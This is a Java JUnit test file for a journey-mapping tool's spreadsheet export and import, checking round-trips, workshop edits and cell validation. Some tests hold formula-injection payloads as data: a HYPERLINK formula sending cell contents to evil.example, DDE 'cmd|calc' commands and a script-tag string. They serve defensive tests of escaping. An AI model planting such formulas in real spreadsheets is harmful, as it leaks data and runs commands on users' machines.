package dev.touchline.sheet.tests;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.eclipse.emf.ecore.EObject;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.touchline.io.ModelFileException;
import dev.touchline.io.ModelFiles;
import dev.touchline.model.JourneyModel;
import dev.touchline.model.Measurement;
import dev.touchline.model.Touchpoint;
import dev.touchline.sheet.SheetExport;
import dev.touchline.sheet.SheetImport;
import dev.touchline.sheet.Table;

class SheetRoundTripTest {

    static final Path SAMPLE = Path.of("../../samples/northwind-movers.touchline");

    @TempDir
    Path dir;

    @Test
    void anUneditedWorkbookOrCsvChangesNothing() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        byte[] before = ModelFiles.toBytes(model);
        for (String name : List.of("map.xlsx", "tp.csv")) {
            Path sheet = dir.resolve(name);
            SheetExport.write(model, sheet, Table.TOUCHPOINTS);
            SheetImport.Plan plan = SheetImport.plan(model, sheet);
            assertEquals(List.of(), plan.edits().stream().map(SheetImport.Edit::description).toList(), name);
            assertEquals(30, plan.rows() - (name.endsWith(".xlsx") ? count(model, Measurement.class) : 0), name);
        }
        Path measurements = dir.resolve("m.csv");
        SheetExport.write(model, measurements, Table.MEASUREMENTS);
        assertEquals(List.of(), SheetImport.plan(model, measurements).edits());
        assertArrayEquals(before, ModelFiles.toBytes(model));
    }

    @Test
    void workshopEditsInACsvFlowBackIntoTheModel() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        Path sheet = dir.resolve("tp.csv");
        SheetExport.write(model, sheet, Table.TOUCHPOINTS);
        List<String> lines = new ArrayList<>(Files.readAllLines(sheet, StandardCharsets.UTF_8));
        // row for tp-search-ads: give it to Sales, rename it, support from IT and HR
        int i = indexOf(lines, "tp-search-ads,");
        lines.set(i, lines.get(i).replace("Search ads and comparison sites", "Paid search ads")
                .replace(",Marketing,", ",Sales,").replaceFirst(",0,no$", ",1,yes").replace(",,1,yes", ",IT; HR,1,yes"));
        String stage = lines.get(i).split(",")[2];
        lines.add(",Move house," + stage + ",Workshop idea: price calculator,Found in the workshop,,frontstage,IT,,,no");
        Files.write(sheet, lines, StandardCharsets.UTF_8);

        SheetImport.Plan plan = SheetImport.plan(model, sheet);
        assertEquals("add new touchpoint 'Workshop idea: price calculator' to stage '" + stage + "' (description"
                + " 'Found in the workshop', owner 'IT')", plan.edits().get(plan.edits().size() - 1)
                        .description(), "an added row is one change, with its values");
        plan.apply();
        Touchpoint ads = touchpoint(model, "tp-search-ads");
        assertEquals("Paid search ads", ads.getName());
        assertEquals("Sales", ads.getOwner().getName());
        assertEquals(List.of("IT", "HR"), ads.getSupporters().stream().map(d -> d.getName()).toList());
        assertEquals(1, ads.getEmotion());
        assertTrue(ads.isMomentOfTruth());
        assertEquals(1, plan.added());
        Touchpoint added = find(model, Touchpoint.class, t -> "Workshop idea: price calculator".equals(t.getName()));
        assertEquals("IT", added.getOwner().getName());
        assertEquals(ads.eContainer(), added.eContainer());
        Path saved = dir.resolve("after.touchline");
        ModelFiles.save(model, saved);
        assertEquals("Paid search ads", touchpoint(ModelFiles.load(saved), "tp-search-ads").getName());
    }

    @Test
    void measurementActualsFlowBackFromAWorkbook() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        Measurement m = find(model, Measurement.class, x -> x.getActual() != null);
        Path sheet = dir.resolve("book.xlsx");
        SheetExport.write(model, sheet, null);
        // a workbook edited by a spreadsheet program: rewrite it with a new actual for m
        Path edited = dir.resolve("edited.xlsx");
        List<List<Object>> rows = readSheet(sheet, "Measurements");
        for (List<Object> row : rows) {
            if (m.getId().equals(row.get(0))) {
                row.set(5, 42.5);
            }
        }
        WorkbookFiles.write(edited, "Measurements", rows);
        SheetImport.Plan plan = SheetImport.plan(model, edited);
        assertEquals(rows.size() - 1 + " rows read, 1 change (0 added)", plan.summary());
        plan.apply();
        assertEquals(42.5, m.getActual());
    }

    @Test
    void textThatLooksLikeAFormulaIsEscapedInCsvAndComesBackUnchanged() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        Touchpoint tp = touchpoint(model, "tp-search-ads");
        String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        tp.setName(evil);
        touchpoint(model, "tp-reviews").setName("-20% on weekdays");
        String markup = "<script>alert('x')</script> & \"quotes\" ]]> \uD83D\uDE9A \u05E9\u05DC\u05D5\u05DD e\u0301";
        touchpoint(model, "tp-moving-guide").setDescription(markup);
        Path csv = dir.resolve("tp.csv");
        SheetExport.write(model, csv, Table.TOUCHPOINTS);
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertTrue(text.contains("\"'=HYPERLINK(\"\"http"), text);
        assertTrue(text.contains(",'-20% on weekdays,"), text);
        assertEquals(List.of(), SheetImport.plan(model, csv).edits(), "the apostrophe is removed on import");

        Path xlsx = dir.resolve("book.xlsx");
        SheetExport.write(model, xlsx, null);
        try (ReadableWorkbook wb = new ReadableWorkbook(xlsx.toFile())) {
            for (Row row : wb.findSheet("Touchpoints").get().read()) {
                row.stream().filter(c -> c != null).forEach(c -> assertTrue(c.getType() != CellType.FORMULA, c.toString()));
            }
        }
        assertEquals(List.of(), SheetImport.plan(model, xlsx).edits(), "markup, emoji and marks survive the workbook");
        try (ReadableWorkbook wb = new ReadableWorkbook(xlsx.toFile())) {
            assertTrue(wb.findSheet("Touchpoints").get().read().stream()
                    .anyMatch(row -> markup.equals(row.getCellText(4))), "the workbook holds the text, escaped as XML");
        }
    }

    /** Found by hardening round two: the id columns skipped the formula guard. */
    @Test
    void anIdThatLooksLikeAFormulaIsGuardedInTheCsvAndStillMatchesOnImport() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        touchpoint(model, "tp-search-ads").setId("=cmd|'calc'!A0");
        Path csv = dir.resolve("tp.csv");
        SheetExport.write(model, csv, Table.TOUCHPOINTS);
        List<String> lines = Files.readAllLines(csv, StandardCharsets.UTF_8);
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("'=cmd|'")), "the id cell starts with an apostrophe");
        assertTrue(lines.stream().noneMatch(l -> l.startsWith("=") || l.startsWith("\"=")), lines.toString());
        assertEquals(List.of(), SheetImport.plan(model, csv).edits(), "and the import still finds the touchpoint");
    }

    @Test
    void everyWrongCellIsListedAndTheModelIsUnchanged() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        byte[] before = ModelFiles.toBytes(model);
        Path sheet = dir.resolve("tp.csv");
        SheetExport.write(model, sheet, Table.TOUCHPOINTS);
        List<String> lines = new ArrayList<>(Files.readAllLines(sheet, StandardCharsets.UTF_8));
        int i = indexOf(lines, "tp-search-ads,");
        lines.set(i, lines.get(i).replace(",Marketing,", ",Marketting,").replaceFirst(",0,no$", ",ninety,maybe"));
        lines.set(2, lines.get(2).replaceFirst("^tp-[a-z-]+", "tp-nope"));
        lines.add(",Move house,Nowhere,=cmd|' /C calc'!A0,,,frontstage,,,,no");
        Files.write(sheet, lines, StandardCharsets.UTF_8);
        ModelFileException e = assertThrows(ModelFileException.class, () -> SheetImport.plan(model, sheet));
        String m = e.getMessage();
        for (String expected : List.of("6 problems", "(the model is unchanged)", "there is no department 'Marketting'",
                "'ninety' is not a number", "write yes or no, not 'maybe'", "no touchpoint has the id 'tp-nope'",
                "cell A3 (Touchpoint id)", "there is no stage 'Nowhere' in journey 'Move house'", "starts like a spreadsheet formula")) {
            assertTrue(m.contains(expected), "«" + expected + "» in:\n" + m);
        }
        assertArrayEquals(before, ModelFiles.toBytes(model));
    }

    @Test
    void semicolonSeparatedCsvWithDecimalCommasIsRead() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        Measurement m = find(model, Measurement.class, x -> x.getActual() != null);
        Path csv = dir.resolve("m.csv");
        Files.writeString(csv, "\uFEFFMeasurement id;Actual\n" + m.getId() + ";3,75\n", StandardCharsets.UTF_8);
        SheetImport.plan(model, csv).apply();
        assertEquals(3.75, m.getActual());
    }

    @Test
    void emptyCellsClearOptionalValues() throws Exception {
        JourneyModel model = ModelFiles.load(SAMPLE);
        Path csv = dir.resolve("tp.csv");
        Files.writeString(csv, "Touchpoint id,Owner,Emotion\ntp-search-ads,,\n", StandardCharsets.UTF_8);
        SheetImport.plan(model, csv).apply();
        Touchpoint tp = touchpoint(model, "tp-search-ads");
        assertNull(tp.getOwner());
        assertNull(tp.getEmotion());
        assertEquals("Search ads and comparison sites", tp.getName(), "columns that are absent are left alone");
    }

    // ---- helpers

    static int indexOf(List<String> lines, String prefix) {
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).replace("\uFEFF", "").startsWith(prefix)) {
                return i;
            }
        }
        throw new AssertionError("no line starts with " + prefix);
    }

    static Touchpoint touchpoint(JourneyModel model, String id) {
        return find(model, Touchpoint.class, t -> id.equals(t.getId()));
    }

    static <T> T find(JourneyModel model, Class<T> type, java.util.function.Predicate<T> test) {
        for (Iterator<EObject> it = model.eAllContents(); it.hasNext();) {
            EObject e = it.next();
            if (type.isInstance(e) && test.test(type.cast(e))) {
                return type.cast(e);
            }
        }
        throw new AssertionError("not found");
    }

    static int count(JourneyModel model, Class<?> type) {
        int n = 0;
        for (Iterator<EObject> it = model.eAllContents(); it.hasNext();) {
            n += type.isInstance(it.next()) ? 1 : 0;
        }
        return n;
    }

    static List<List<Object>> readSheet(Path xlsx, String name) throws Exception {
        List<List<Object>> rows = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(xlsx.toFile())) {
            for (Row row : wb.findSheet(name).get().read()) {
                List<Object> values = new ArrayList<>();
                for (int c = 0; c < row.getCellCount(); c++) {
                    var cell = row.getCell(c);
                    values.add(cell == null || cell.getType() == CellType.EMPTY ? null
                            : cell.getType() == CellType.NUMBER ? cell.asNumber().doubleValue() : cell.getText());
                }
                rows.add(values);
            }
        }
        return rows;
    }

    /** Hardening round three: the workbook's drop-down validations carried the literal text "null". */
    @Test
    void theWorkbooksDropDownsCarryNoNullText() throws Exception {
        Path sheet = dir.resolve("dropdowns.xlsx");
        SheetExport.write(ModelFiles.load(SAMPLE), sheet, Table.TOUCHPOINTS);
        int validations = 0;
        try (java.util.zip.ZipFile zip = new java.util.zip.ZipFile(sheet.toFile())) {
            for (var entry : java.util.Collections.list(zip.entries())) {
                String xml = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
                assertTrue(!xml.contains("\"null\"") && !xml.contains(">null<"), entry.getName() + " holds 'null'");
                validations += xml.split("<dataValidation ", -1).length - 1;
            }
        }
        assertTrue(validations >= 4, "the drop-downs are there: " + validations);
    }
}
